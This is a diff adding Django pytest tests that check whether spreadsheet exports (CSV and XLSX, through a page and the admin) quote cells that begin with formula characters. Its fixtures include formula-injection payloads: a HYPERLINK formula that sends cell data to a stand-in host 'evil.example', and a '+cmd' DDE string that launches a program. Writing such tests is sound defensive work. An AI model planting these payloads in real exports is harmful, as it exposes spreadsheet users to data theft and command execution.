@@ -1,0 +1,74 @@
+"""Exports do not let a spreadsheet run a cell: text starting with = + - @ tab or CR is quoted."""
+
+import csv
+import io
+
+import openpyxl
+import pytest
+from django.contrib import admin
+from django.urls import reverse
+
+from plan.exports import safe_cell, safe_row
+
+pytestmark = pytest.mark.django_db
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+
+
+def test_safe_cell_quotes_formula_text_and_leaves_numbers_alone():
+    for text in ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", EVIL_NAME]:
+        assert safe_cell(text) == "'" + text
+    for value in [42, -5, 3.5, None, True, "Công ty May 10", "", "-5", "+84", "12,5"]:
+        assert safe_cell(value) == value
+    assert safe_row(["=x", 1, "a"]) == ["'=x", 1, "a"]
+
+
+def _admin_export(client, model, format_name):
+    model_admin = admin.site._registry[model]
+    formats = [f().get_title() for f in model_admin.get_export_formats()]
+    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
+    form = client.get(url).context["form"]
+    data = {"format": formats.index(format_name), "resource": 0}
+    data.update({name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)})
+    response = client.post(url, data)
+    assert response.status_code == 200, response.content[:500]
+    return response.content
+
+
+def _xlsx_cells(content):
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    return [cell.value for row in sheet.iter_rows() for cell in row]
+
+
+def _csv_cells(content):
+    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content.lstrip("\ufeff")
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_an_enterprise_named_as_a_formula_is_exported_as_text_by_the_page_and_the_admin(client_as):
+    from training.tests.factories import enterprise_make
+
+    enterprise = enterprise_make(size="small", name=EVIL_NAME)
+    client = client_as("doit_staff")
+    page_xlsx = client.get(reverse("enterprises:export") + "?format=xlsx")
+    page_csv = client.get(reverse("enterprises:export") + "?format=csv")
+    assert page_xlsx.status_code == page_csv.status_code == 200
+    admin_xlsx = _admin_export(client, type(enterprise), "xlsx")
+    admin_csv = _admin_export(client, type(enterprise), "csv")
+    for cells in [_xlsx_cells(page_xlsx.content), _csv_cells(page_csv.content),
+                  _xlsx_cells(admin_xlsx), _csv_cells(admin_csv)]:
+        assert "'" + EVIL_NAME in cells
+        assert EVIL_NAME not in cells
+    # numbers stay numbers in the page's xlsx
+    assert enterprise.workers in _xlsx_cells(page_xlsx.content)
+
+
+def test_a_participant_named_plus_cmd_is_exported_as_text_by_the_admin(client_as):
+    from training.models import Participant
+    from training.tests.factories import ParticipantFactory
+
+    ParticipantFactory(full_name="+cmd|' /C calc'!A0", position="-2+3", agency="@SUM(1)")
+    client = client_as("doit_staff")
+    for format_name, read in [("xlsx", _xlsx_cells), ("csv", _csv_cells)]:
+        cells = read(_admin_export(client, Participant, format_name))
+        assert "'+cmd|' /C calc'!A0" in cells and "'-2+3" in cells and "'@SUM(1)" in cells, (format_name, cells)
